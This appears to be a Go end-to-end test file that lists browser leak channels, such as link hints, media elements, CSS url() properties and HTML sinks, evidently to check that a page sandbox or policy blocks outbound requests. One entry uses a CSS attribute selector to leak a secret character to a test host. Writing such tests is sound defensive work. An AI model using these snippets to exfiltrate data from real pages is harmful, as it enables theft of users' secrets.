package e2e

var leakLinks = []leakChannel{
	{name: "prefetch", places: fromPage, try: `make("link", { rel: "prefetch", href: at.url("html") }, document.head)`},
	{name: "preload-image", places: fromPage, try: `make("link", { rel: "preload", as: "image", href: at.url("svg") }, document.head)`},
	{name: "preload-fetch", places: fromPage, try: `make("link", { rel: "preload", as: "fetch", crossorigin: "", href: at.url("json") }, document.head)`},
	{name: "preload-font", places: fromPage, try: `make("link", { rel: "preload", as: "font", crossorigin: "", href: at.url("woff2") }, document.head)`},
	{name: "preload-script", places: fromPage, try: `make("link", { rel: "preload", as: "script", href: at.url("js") }, document.head)`},
	{name: "preload-style", places: fromPage, try: `make("link", { rel: "preload", as: "style", href: at.url("css") }, document.head)`},
	{name: "modulepreload", places: fromPage, try: `make("link", { rel: "modulepreload", href: at.url("js") }, document.head)`},
	{name: "prerender", places: fromPage, mute: "a hint that Chromium does not take", try: `make("link", { rel: "prerender", href: at.url("html") }, document.head)`},
	{name: "dns-prefetch", places: fromPage, only: "out", try: `make("link", { rel: "dns-prefetch", href: at.url("html") }, document.head)`},
	{name: "dns-prefetch-switched-on", places: fromPage, only: "out", mute: "Chromium looks up no links of a tab without a window", try: `make("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head); make("a", { href: at.url("html") }).textContent = "leak"`},
	{name: "preconnect", places: fromPage, only: "out", try: `make("link", { rel: "preconnect", href: at.url("html", "https") }, document.head)`},
	{name: "preconnect-crossorigin", places: fromPage, only: "out", try: `make("link", { rel: "preconnect", crossorigin: "", href: at.url("html") }, document.head)`},
	{name: "stylesheet", places: fromPage, try: `make("link", { rel: "stylesheet", href: at.url("css") }, document.head)`},
	{name: "icon", places: fromPage, try: `document.querySelectorAll("link[rel=icon]").forEach((l) => l.remove()); make("link", { rel: "icon", href: at.url("svg") }, document.head)`},
	{name: "manifest", places: fromPage, try: `make("link", { rel: "manifest", href: at.url("json") }, document.head)`},
	{name: "compression-dictionary", places: fromPage, try: `make("link", { rel: "compression-dictionary", href: at.url("json", at.own ? "http" : "https") }, document.head)`},
	{name: "search-description", places: fromPage, mute: "without a window Chromium adds no search engines", try: `make("link", { rel: "search", type: "application/opensearchdescription+xml", href: at.url("xml") }, document.head)`},
	{name: "speculation-prefetch", places: fromPage, try: `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [at.url("html", at.own ? "http" : "https")] }] }); document.head.append(s)`},
	{name: "speculation-prerender", places: fromPage, try: `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prerender: [{ source: "list", urls: [at.url("html", at.own ? "http" : "https")] }] }); document.head.append(s)`},
}

var leakMedia = []leakChannel{
	{name: "image", places: fromPage, try: `make("img", { src: at.url("svg") })`},
	{name: "image-object", places: fromPage, try: `globalThis.leakImage = new Image(); leakImage.src = at.url("svg")`},
	{name: "image-srcset", places: fromPage, try: `make("img", { srcset: at.url("svg") + " 1x" })`},
	{name: "picture", places: fromPage, try: `const p = document.createElement("picture"); make("source", { srcset: at.url("svg") }, p); make("img", {}, p); document.body.append(p)`},
	{name: "input-image", places: fromPage, try: `make("input", { type: "image", src: at.url("svg") })`},
	{name: "body-background", places: fromPage, try: `make("table", { background: at.url("svg") })`},
	{name: "svg-image", places: fromPage, try: `make("svg:image", { href: at.url("svg"), width: 9, height: 9 }, make("svg:svg"))`},
	{name: "svg-feimage", places: fromPage, try: `const s = make("svg:svg"); make("svg:feImage", { href: at.url("svg") }, make("svg:filter", { id: "leak" }, s)); make("svg:rect", { filter: "url(#leak)", width: 9, height: 9 }, s)`},
	{name: "svg-use", places: fromPage, mute: "browsers use no SVG of other sites", try: `make("svg:use", { href: at.url("svg") + "#x" }, make("svg:svg"))`},
	{name: "video", places: fromPage, try: `make("video", { src: at.url("mp4"), preload: "auto" })`},
	{name: "video-poster", places: fromPage, try: `make("video", { poster: at.url("svg") })`},
	{name: "video-source", places: fromPage, try: `const v = document.createElement("video"); make("source", { src: at.url("mp4") }, v); v.preload = "auto"; document.body.append(v)`},
	{name: "audio", places: fromPage, try: `globalThis.leakAudio = new Audio(at.url("mp3"))`},
	{name: "track", places: fromPage, try: `make("track", { src: at.url("vtt"), default: "" }, make("video", { crossorigin: "" })).track.mode = "showing"`},
	{name: "font-face", places: fromBoth, try: `new FontFace("leak", "url(" + at.url("woff2") + ")").load().catch(() => {})`},
	{name: "media-session", places: fromPage, mute: "no system shows what is being played here", try: `navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: at.url("svg") }] }); navigator.mediaSession.playbackState = "playing"`},
	{name: "svg-foreign-canvas", places: fromPage, try: `const i = new Image(); i.src = "data:image/svg+xml," + encodeURIComponent("<svg xmlns='http://www.w3.org/2000/svg'><image href='" + at.url("svg") + "'/></svg>"); document.body.append(i)`, mute: "an SVG that is shown as an image loads nothing"},
}

// leakSheet is an attempt by a style sheet made by script, which no policy forbids:
// only what it loads counts.
func leakSheet(name, declaration string) leakChannel {
	return leakChannel{name: name, places: fromPage, try: `css(".LEAK { display: list-item; width: 9px; height: 9px; ` + declaration + ` }".replaceAll("URL", "url(" + at.url("svg") + ")"))`}
}

var leakStyles = []leakChannel{
	leakSheet("css-background", "background: URL"),
	leakSheet("css-image-set", "background: image-set(URL 1x)"),
	leakSheet("css-list-style", "list-style: URL"),
	leakSheet("css-border-image", "border: 2px solid; border-image: URL 1"),
	leakSheet("css-mask", "mask: URL"),
	leakSheet("css-shape-outside", "float: left; shape-outside: URL"),
	leakSheet("css-cross-fade", "background: -webkit-cross-fade(URL, URL, 50%)"),
	leakSheet("css-content", "} .LEAK::before { content: URL"),
	leakSheet("css-cursor", "cursor: URL, auto"),
	{name: "css-font", places: fromPage, try: `css("@font-face { font-family: leak-" + at.id.replaceAll(".", "-") + "; src: url(" + at.url("woff2") + ") } .LEAK { font-family: leak-" + at.id.replaceAll(".", "-") + " }")`},
	{name: "css-attribute-selector", places: fromPage, try: `make("input", { name: "leak-value", value: at.secret }); css("input[name=leak-value][value^='" + at.secret[0] + "'] { background: url(" + at.url("svg") + ") }")`},
	{name: "css-import", places: fromPage, try: `make("style", {}, document.head).textContent = "@import url(" + at.url("css") + ")"`},
	{name: "css-import-in-our-sheet", places: fromPage, try: `document.styleSheets[0].insertRule("@import url(" + at.url("css") + ")", 0)`},
	{name: "style-attribute", places: fromPage, try: `make("div", { style: "width: 9px; height: 9px; background: url(" + at.url("svg") + ")" })`},
	{name: "style-property", places: fromPage, try: `make("div").style.cssText = "width: 9px; height: 9px; background: url(" + at.url("svg") + ")"`},
	{name: "html-in-a-sink", places: fromPage, try: `make("div").innerHTML = "<img src='" + at.url("svg") + "'>"`},
	{name: "html-from-the-parser", places: fromPage, try: `document.body.append(new DOMParser().parseFromString("<img src='" + at.url("svg") + "'>", "text/html").body.firstChild)`},
	{name: "html-set-safely", places: fromPage, try: `const d = make("div"); need(d.setHTML); d.setHTML("<img src='" + at.url("svg") + "'>", { sanitizer: { elements: [{ name: "img", attributes: ["src"] }] } })`},
}
